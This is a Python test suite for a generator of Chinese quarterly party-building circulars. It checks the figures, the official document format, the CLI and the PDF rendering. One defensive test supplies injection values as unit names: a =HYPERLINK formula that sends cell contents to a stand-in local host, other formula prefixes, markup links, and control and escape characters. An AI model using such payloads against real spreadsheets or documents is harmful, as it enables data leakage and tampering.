"""The quarterly 通报 (dashboard/briefing.py gathers it, dashboard/output/briefing.py writes it).

The document is opened with python-docx and read as a person reads it: the title, the 主送 line,
the headings 一、二、三…, and every number in its sentences and tables, each compared with the
named query behind it, rerun here on the store (or with the demo's known facts: 13 returns due
for 2024Q4, 11 in).  Then the form of a circular: fonts named for Chinese Word, A4 with GB/T 9704
margins, a PAGE field in the footers; ties at the bottom of a ranking stated whole; hostile unit
names as plain text.  Last, LibreOffice renders it to PDF and poppler to one PNG per page under
artifacts/briefing/ (kept for a person to look at).
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.table import Table
from docx.text.paragraph import Paragraph

from dashboard import briefing, cli
from dashboard.db import Store
from dashboard.domain import analysis, figures, periods
from dashboard.domain.catalog import catalog
from dashboard.output import briefing as out
from dashboard.output import charts, style
from dashboard.settings import ROOT
from dashboard.settings import current as settings
from tests.support.figures import iv
from tests.support.hostile import build_db

QUARTER = "2024Q4"
ARTIFACTS = ROOT / "artifacts" / "briefing"


@pytest.fixture(scope="module")
def demo_db(demo_db_file, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("briefing") / "demo.duckdb"
    shutil.copy(demo_db_file, path)
    return path


@pytest.fixture(scope="module")
def made(demo_db):
    """SW's circular for 2024Q4 with its charts drawn (Chromium), as .docx bytes."""
    with Store(demo_db) as store:
        facts = briefing.gather(store, "SW", QUARTER)
    data, problem = out.build(facts)
    assert problem is None, problem
    return data


@pytest.fixture(scope="module")
def doc(made):
    return Document(io.BytesIO(made))


@pytest.fixture
def store(demo_db):
    with Store(demo_db) as s:
        yield s


def blocks(document) -> list[tuple[str, str | None, object]]:
    """The body in order: ("p", style, text) for a paragraph, ("table", None, rows of cell texts)."""
    found = []
    for el in document.element.body.iterchildren():
        if el.tag == qn("w:p"):
            p = Paragraph(el, document)
            found.append(("p", p.style.name, p.text))
        elif el.tag == qn("w:tbl"):
            found.append(("table", None, [[c.text for c in row.cells] for row in Table(el, document).rows]))
    return found


def section(document, heading: str, style_name: str = "Heading 1") -> list:
    """The blocks after the heading (of `style_name`) whose text ends with `heading`, up to the next
    heading of that level or above."""
    levels = ["Heading 1", "Heading 2"][: ["Heading 1", "Heading 2"].index(style_name) + 1]
    out_, inside = [], False
    for kind, st, content in blocks(document):
        if kind == "p" and st in levels:
            if inside:
                break
            inside = st == style_name and content.endswith(heading)
            continue
        if inside:
            out_.append((kind, st, content))
    assert out_, f"no section {heading}"
    return out_


def number(text: str) -> float:
    return float(text.replace(",", ""))


def tolerance(value_type: str) -> float:
    return {"count": 0, "money": 0.005, "rate": 0.05, "stars": 0.005, "score": 0.05}.get(value_type, 0.005) + 1e-9


def text_of(document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [c.text for row in table.rows for c in row.cells]
    return "\n".join(parts)


# --- what it says --------------------------------------------------------------------------------


def test_title_addressees_and_numbered_headings(doc):
    paras = [(p.style.name, p.text) for p in doc.paragraphs if p.text.strip()]
    assert paras[0][1] == "市水务局党组"  # the masthead
    assert ("Title", "市水务局党组关于2024年第四季度党建工作情况的通报") in paras
    assert ("Normal", "各党委、党总支、党支部：") in paras  # 主送: the levels under the party group
    first = [text for st, text in paras if st == "Heading 1"]
    assert first == ["一、总体情况", "二、报送情况", "三、各领域工作情况", "四、“三会一课”落实情况", "五、下一步工作要求"]
    second = [text for st, text in paras if st == "Heading 2"]
    domains = catalog().domains  # from data/domains.csv, in its order
    numerals = "一,二,三,四,五,六,七,八,九,十,十一,十二,十三,十四,十五,十六,十七".split(",")
    assert len(domains) <= len(numerals)
    assert second == [f"（{numerals[i]}）{d.name_zh}" for i, d in enumerate(domains)]
    next_steps = section(doc, "下一步工作要求")
    assert next_steps[0][2] == "（此处由办公室填写下一步工作要求。）"  # left for the office to write


def test_returns_due_and_in_equal_the_status_query(doc, store):
    tree = store.tree_at(QUARTER)
    reporting = [u.code for u in tree.subtree("SW") if tree.is_reporting(u.code)]
    deadline = (periods.quarter_end(QUARTER) + pd.Timedelta(days=settings().deadline_days)).date().isoformat()
    status = store.query("submission_status", units=reporting, quarters=[QUARTER] * len(reporting),
                         deadlines=[deadline] * len(reporting))
    counts = status["status"].value_counts()
    done = int(counts.get("submitted", 0) + counts.get("late", 0))
    assert (len(status), done) == (13, 11)  # the demo's facts: 13 returns due for 2024Q4, 11 in
    overview = [c for k, _, c in section(doc, "总体情况") if k == "p"]
    assert overview[0] == (f"本季度应报{len(status)}个单位，已报{done}个（其中逾期{int(counts.get('late', 0))}个），"
                           f"未报{len(status) - done}个。")
    said = " ".join(c for k, _, c in section(doc, "报送情况") if k == "p")
    for _, row in status[status["status"] == "late"].iterrows():
        day = pd.Timestamp(row["submitted_at"])
        assert f"{row['unit_name_zh']}（{day.year}年{day.month}月{day.day}日报送）" in said
    missing = status.loc[status["status"] == "missing", "unit_name_zh"].tolist()
    assert f"未报送{len(missing)}个单位：{'、'.join(missing)}。" in said
    assert f"按时报送{int(counts.get('submitted', 0))}个单位。" in said


def _like_for_like(store, code: str, now_q: str, before_q: str) -> tuple[float | None, tuple | None]:
    """SW's change of count indicator `code` from `before_q` to `now_q` counted from the raw facts of
    the returns that came in in both quarters; and (returns counted, returns due) if that left some
    return due out, else None."""
    subs = store.table("submissions")
    active = subs[subs["status"] == "active"]
    came = {q: set(active.loc[active["quarter"] == q, "unit_code"]) for q in (now_q, before_q)}
    due = {q: set(analysis.expected_returns(store.history(), ["SW"], [q], whole=True)["units"])
           for q in (now_q, before_q)}
    common = came[now_q] & came[before_q]
    if not common:
        return None, None
    facts = store.table("facts").merge(active[["id", "unit_code"]].rename(
        columns={"id": "submission_id", "unit_code": "return_unit"}))
    mine = facts[(facts["indicator_code"] == code) & facts["return_unit"].isin(common)]
    delta = mine.loc[mine["quarter"] == now_q, "value"].sum() - mine.loc[mine["quarter"] == before_q, "value"].sum()
    return float(delta), (None if common == due[now_q] == due[before_q] else (len(common), len(due[now_q])))


def test_headline_figures_and_their_change_equal_the_query(doc, store):
    """The value is the figure of the quarter; its change on the previous quarter counts only the
    returns that came in in both (as the overview), and says so when that leaves a return out."""
    cat = store.catalog
    rows = {r[0]: r for r in next(c for k, _, c in section(doc, "总体情况") if k == "table")[1:]}
    sentence = [c for k, _, c in section(doc, "总体情况") if k == "p"][1]
    heads = cat.headlines  # the overview's domains: the other domains speak in their own sections
    shown, partial = 0, set()
    for ind in heads:
        ref = analysis.reference_quarter(ind.quarters, QUARTER)  # stars are rated in Q1 only

        def value(q):
            got = iv(store, units=["SW"], indicators=[ind.code], **{"from": q, "to": q})
            return got["value"].iloc[0] if len(got) else None

        now = value(ref)
        if now is None:  # no figure this quarter (党员突击队 outside the flood season): not listed
            assert ind.name_zh not in rows and ind.name_zh not in sentence
            continue
        shown += 1
        row = rows[ind.name_zh]
        assert row[1] == ref and row[7] == ind.unit_zh
        assert abs(number(row[2]) - now) <= tolerance(ind.value_type), ind.code
        if ind.value_type == "count" and ind.quarters == "all" and ind.unit_agg == "sum" and not ind.is_derived:
            delta, some = _like_for_like(store, ind.code, ref, periods.shift(ref, -1))
            assert delta is not None, ind.code
            assert abs(number(row[4]) - delta) <= tolerance(ind.value_type), ind.code
            change = "持平" if delta == 0 else f"{'增加' if delta > 0 else '减少'}{abs(delta):,.0f}{ind.unit_zh}"
            said = f"{ind.name_zh}{now:,.0f}{ind.unit_zh}，较上季度{change}"
            assert said in sentence, (said, sentence)
            partial.add(some)
    assert shown == len(rows) >= 5
    # the demo misses returns in 2024Q4: the changes count only the units in both quarters, said once
    assert partial == {(10, 13)}, partial
    assert sentence.endswith("。以上较上季度增减均为同口径比较，仅计两季度均已报送的10个单位（应报13个）。"), sentence


def _expected_ranking(store, domain: str, quarter: str):
    """The ranking the pages show for the sub-units of SW (figures.ranking: the overview's bottom list,
    the domain page and the projector ask it alike); tests/oracle checks it against a recomputation."""
    ind = store.catalog[store.catalog.headline(domain)]
    ref = analysis.reference_quarter(ind.quarters, quarter)
    units = analysis.scope_units(store.tree(), ["SW"], [ref], store.history())
    return figures.ranking(figures.Source.of_store(store), units, [ref], ref, ind.code), ref


@pytest.mark.parametrize("domain", [d.code for d in catalog().domains])
def test_each_domain_ranks_the_sub_units_as_the_pages_do(doc, store, domain):
    d = store.catalog.domain(domain)
    rank, ref = _expected_ranking(store, domain, QUARTER)
    ind = rank.indicator
    part = section(doc, d.name_zh, "Heading 2")
    tables = [c for k, _, c in part if k == "table"]
    said = " ".join(c for k, _, c in part if k == "p")
    if not rank.n_ranked:  # e.g. no flood figures in Q4: said, not ranked
        assert tables == []
        return
    (table,) = tables
    fr = rank.frame
    fmt = charts.number_format(ind.value_type if rank.measure == "raw" else "score", fr["value"])
    grouped = fr["group"].nunique() > 1  # committees and branches ranked apart: the table says which
    assert table[0] == ["名次", *(["层级"] if grouped else []), "单位", f"{ind.name_zh}（{rank.unit}）"]
    assert [r[-2] for r in table[1:]] == fr["unit_name"].tolist()
    for row, r in zip(table[1:], fr.itertuples()):
        if grouped:
            assert row[1] == {"committee": "党委·党总支", "branch": "党支部"}[r.group], r.unit_code
        if pd.isna(r.value):
            assert row[0] == "—" and row[-1] == figures.state_text(r.state), r.unit_code
        else:
            assert row[-1] == format(r.value, fmt), r.unit_code  # the chart's figure, as many decimals as tell apart
            assert int(row[0]) == r.rank, r.unit_code
    if not ind.names_laggards:
        assert "不据以点名" in said and "排名靠后的是" not in said
    for g in rank.bottom:
        assert all(n in said for n in g["names"]) or f"{len(g['names'])}个单位并列" in said
    if ind.headline:
        total = iv(store, units=["SW"], indicators=[ind.code], **{"from": ref, "to": ref})["value"].iloc[0]
        assert f"{periods.quarter_label(ref)}{ind.name_zh}{number_text(total, ind)}{ind.unit_zh}" in said


def number_text(value, ind) -> str:
    return {"count": f"{value:,.0f}", "rate": f"{value:.1f}", "money": f"{value:,.2f}"}.get(ind.value_type,
                                                                                            f"{value:.2f}")


def test_the_charts_are_drawn_one_per_ranked_domain(made, doc, store):
    ranked = [d for d in store.catalog.domains if _expected_ranking(store, d.code, QUARTER)[0].n_ranked]
    assert len(doc.inline_shapes) == len(ranked) >= 4
    with zipfile.ZipFile(io.BytesIO(made)) as z:
        pngs = [z.read(n) for n in z.namelist() if n.startswith("word/media/")]
    assert len(pngs) == len(ranked)
    for png in pngs:
        assert png[:8] == b"\x89PNG\r\n\x1a\n"
        width = int.from_bytes(png[16:20], "big")
        assert width == out.CHART_WIDTH_PX * 2  # drawn at twice the size, sharp in print


def test_a_tie_at_the_bottom_is_stated_whole_and_discipline_names_nobody(doc, store):
    """接收预备党员 per 100 members in 2024Q4: five committees at 0, counted, none named; 四种形态 names nobody."""
    rank, _ = _expected_ranking(store, "members", QUARTER)
    (g,) = rank.bottom
    assert len(g["units"]) == 5 and g["value"] == 0
    (bottom,) = [c for k, _, c in section(doc, "发展党员", "Heading 2") if k == "p" and c.startswith("排名靠后")]
    assert bottom.startswith("排名靠后的是：党委·党总支中5个单位并列为0"), bottom
    assert not any(name in bottom for name in g["names"])
    said = [c for k, _, c in section(doc, "纪律执纪", "Heading 2") if k == "p"]
    assert not any(c.startswith("排名靠后") for c in said)
    assert any("不据以点名" in c for c in said)


def test_三会一课_shortfalls_equal_the_query(store):
    quarter = "2024Q3"  # the demo has branches short of 三会一课 in 2024Q3 (none in 2024Q4)
    document = Document(io.BytesIO(out.document(briefing.gather(store, "SW", quarter))))
    groups = [k.code for k in store.tree().kids("SW") if k.active_in(quarter)]
    params = analysis.compliance_params(groups, quarter, quarter)
    shares = store.query("compliance_shares", **params)
    every = shares[shares["rule"] == "all_ok"]
    short = store.query("compliance_short", **params, limit=1000)
    n_short = int(short["n_short"].iloc[0])
    assert n_short == int(every["branch_quarters"].sum() - every["n_ok"].sum()) > 0
    part = section(document, "“三会一课”落实情况")
    said = " ".join(c for k, _, c in part if k == "p")
    assert (f"报送“三会一课”数据的支部{int(every['branch_quarters'].sum())}个，全部达标{int(every['n_ok'].sum())}个，"
            f"未达标{n_short}个") in said
    (table,) = [c for k, _, c in part if k == "table"]
    assert [(r[0], r[1]) for r in table[1:]] == list(zip(short["group_name_zh"], short["unit_name_zh"]))
    for row, reported in zip(table[1:], short["reported"]):
        assert [number(x) for x in row[2:]] == [float(v) for v in reported]


def test_a_demo_database_says_so(doc):
    assert any("演示数据" in p.text and p.runs[0].font.color.rgb == out.RED for p in doc.paragraphs)


# --- the form of a circular ------------------------------------------------------------------------


def _east_asia(element) -> str | None:
    fonts = element.find(qn("w:rPr") + "/" + qn("w:rFonts"))
    return None if fonts is None else fonts.get(qn("w:eastAsia"))


def test_fonts_are_named_for_chinese_word(doc):
    for name, font in (("Body Text", "仿宋"), ("Normal", "仿宋"), ("Heading 1", "黑体"), ("Heading 2", "楷体")):
        s = doc.styles[name].element
        assert _east_asia(s) == font, name
        assert s.find(qn("w:rPr") + "/" + qn("w:rFonts")).get(qn("w:eastAsiaTheme")) is None  # no theme overrides
    by_style = {"Body Text": style.DOC_BODY_FONT, "Heading 1": "黑体", "Heading 2": "楷体",
                "Title": style.DOC_TITLE_FONT}
    for p in doc.paragraphs:
        for run in p.runs:
            if p.style.name in by_style:
                assert _east_asia(run._element) == by_style[p.style.name], p.text
    assert doc.styles["Body Text"].font.size.pt == 16  # 三号
    header = doc.tables[0].rows[0].cells[0].paragraphs[0].runs[0]._element
    body = doc.tables[0].rows[1].cells[1].paragraphs[0].runs[0]._element
    assert (_east_asia(header), _east_asia(body)) == ("黑体", "仿宋")


def test_a4_with_gbt9704_margins(doc):
    s = doc.sections[0]
    mm = [round(x.mm, 1) for x in (s.page_width, s.page_height, s.top_margin, s.bottom_margin, s.left_margin,
                                   s.right_margin)]
    assert mm == [210.0, 297.0, 37.0, 35.0, 28.0, 26.0]  # A4; GB/T 9704: 37 top, 35 bottom, 28 left, 26 right


def test_page_numbers_are_a_page_field_in_both_footers(doc):
    assert doc.settings.odd_and_even_pages_header_footer
    s = doc.sections[0]
    for footer in (s.footer, s.even_page_footer):
        xml = footer._element.xml
        assert re.search(r"<w:instrText[^>]*>\s*PAGE\s*</w:instrText>", xml)
        assert [c.get(qn("w:fldCharType")) for c in footer._element.iter(qn("w:fldChar"))] == [
            "begin", "separate", "end"]
        assert footer.paragraphs[0].text == "— 1 —"


# --- names typed by people -------------------------------------------------------------------------

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"详情")'
MARKUP = "**粗体** [点我](http://127.0.0.1:9/) <b>x</b> { PAGE }"
HOSTILE = [  # code, name_zh, name_en, level, parent
    ("G", LEAK, "=1+2", "party_group", None),
    ("C1", MARKUP, "+SUM(1,2)", "committee", "G"),
    ("C1B1", "@SUM(1+1)", "-1+2", "branch", "C1"),
    ("C1B2", "x\r=1+2\x1b[2J", "\t=1+2", "branch", "C1"),
    ("C2", "x\r=1+2\x1b[2J\t", "\n-2+3", "general_branch", "G"),
    ("C2B1", "y\n=5", "Branch", "branch", "C2"),
]


def test_hostile_unit_names_are_plain_text(tmp_path):
    db = build_db(tmp_path / "hostile.duckdb", HOSTILE, user="=1+2", file_name="=x.xlsx", past_the_rules=True)
    with Store(db) as store:
        facts = briefing.gather(store, "G", "2024Q2")
    data = out.document(facts)
    document = Document(io.BytesIO(data))
    text = text_of(document)
    assert document.paragraphs[0].text == LEAK  # the masthead, as typed: text, not a formula or a field
    assert f"{LEAK}关于2024年第二季度党建工作情况的通报" in text
    assert MARKUP in text  # markdown, HTML and braces stay characters
    assert "x\\r=1+2\\x1b[2J\\t" in text  # control characters shown, not obeyed
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml") or n.endswith(".rels")}
    everything = "".join(parts.values())
    assert "\x1b" not in everything and "\r" not in "".join(document.element.itertext())
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", everything)
    assert {i.strip() for i in instructions} == {"PAGE"}  # the page numbers' field, and nothing from a name
    assert "<w:hyperlink" not in everything and "fldSimple" not in everything
    assert "hyperlink" not in parts["word/_rels/document.xml.rels"]
    body = parts["word/document.xml"]
    assert "<w:br" not in body and "<w:tab/>" not in body  # no name broke a line or a column


# --- the command and the page ----------------------------------------------------------------------


def test_the_command_writes_the_document(demo_db, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("DANGJIAN_CHROMIUM", str(tmp_path / "no-chromium"))  # no browser: said, not fatal
    target = tmp_path / "通报.docx"
    code = cli.main(["briefing", "--db", str(demo_db), "--unit", "SW", "--period", "2024q4", "--out", str(target)])
    err = capsys.readouterr()
    assert code == cli.EXIT_OK
    assert "已生成季度通报：市水务局党组 2024Q4" in err.out
    assert "未找到 Chromium" in err.err and "Chromium (" in err.err and "were not drawn" in err.err
    document = Document(str(target))
    assert any(p.text.startswith("（图表未能生成：未找到 Chromium") for p in document.paragraphs)
    assert len(document.inline_shapes) == 0


def test_pdf_without_libreoffice_is_refused_in_both_languages(demo_db, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("DANGJIAN_SOFFICE", str(tmp_path / "no-soffice"))
    target = tmp_path / "通报.pdf"
    code = cli.main(["briefing", "--db", str(demo_db), "--unit", "SW", "--period", "2024Q4", "--out", str(target),
                     "--format", "pdf"])
    err = capsys.readouterr().err
    assert code == cli.EXIT_REJECTED
    assert "未找到 LibreOffice" in err and "LibreOffice (" in err and "no PDF can be made" in err
    assert not target.exists()


def test_bad_arguments_exit_2(demo_db, tmp_path, capsys):
    base = ["briefing", "--db", str(demo_db), "--out", str(tmp_path / "x.docx")]
    assert cli.main([*base, "--unit", "NOPE", "--period", "2024Q4"]) == cli.EXIT_USAGE
    assert "未知单位 NOPE" in capsys.readouterr().err
    with pytest.raises(SystemExit) as caught:  # argparse: not a quarter
        cli.main([*base, "--unit", "SW", "--period", "2024Q5"])
    assert caught.value.code == cli.EXIT_USAGE
    assert not (tmp_path / "x.docx").exists()


def test_the_overview_offers_the_briefing(demo_db_file, tmp_path, monkeypatch):
    from tests.support.apptest import assert_clean, forget, open_app

    path = tmp_path / "app.duckdb"
    shutil.copy(demo_db_file, path)
    monkeypatch.setenv("DANGJIAN_DB", str(path))
    try:
        at = open_app()
        assert_clean(at)
        (button,) = [b for b in at.get("download_button") if b.proto.label == "下载季度通报（Word）"]
        assert "overview_briefing" in button.proto.id
        at.sidebar.segmented_control(key="lang").set_value("en").run()
        assert any(b.proto.label == "Download the quarterly briefing (Word)" for b in at.get("download_button"))
    finally:
        forget()


# --- rendered ----------------------------------------------------------------------------------------


@pytest.mark.skipif(out.soffice_path() is None or shutil.which("pdftoppm") is None,
                    reason="LibreOffice and poppler-utils are installed by `make test` (make office-deps)")
def test_renders_to_pdf_and_one_png_per_page(made):
    pdf = out.to_pdf(made)
    assert pdf[:5] == b"%PDF-"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for old in ARTIFACTS.glob("page-*.png"):
        old.unlink()
    (ARTIFACTS / "通报.docx").write_bytes(made)
    (ARTIFACTS / "通报.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "80", "-png", str(ARTIFACTS / "通报.pdf"), str(ARTIFACTS / "page")], check=True,
                   timeout=300)
    pages = sorted(ARTIFACTS.glob("page-*.png"))
    text = subprocess.run(["pdftotext", "-layout", str(ARTIFACTS / "通报.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout.split("\f")
    text = [p for p in text if p.strip()]
    assert len(pages) == len(text) >= 4
    flat = re.sub(r"\s+", "", text[0])
    assert "市水务局党组关于2024年第四季度党建工作情况的通报" in flat and "一、总体情况" in flat
    for n, page in enumerate(text, 1):
        assert re.search(rf"—\s*{n}\s*—", page), f"page {n} has no page number"
    fonts = subprocess.run(["pdffonts", str(ARTIFACTS / "通报.pdf")], capture_output=True, text=True).stdout
    assert "UKai" in fonts and "WenQuanYi" in fonts  # 楷体 and 黑体 headings drawn in faces of their own
